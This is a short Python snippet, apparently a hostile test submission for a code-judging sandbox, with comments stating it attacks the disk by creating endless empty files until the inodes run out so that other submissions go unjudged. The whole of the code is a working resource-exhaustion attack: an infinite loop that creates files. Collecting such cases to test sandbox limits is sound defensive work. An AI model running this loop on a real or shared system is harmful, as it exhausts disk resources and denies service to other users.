# attacks: the disk: empty files without end
# success: another submission is not judged
# stock: it would use up the inodes of the disk
# %% before
_number = 0
while True:
    open(f"empty-{_number}", "w").close()
    _number += 1
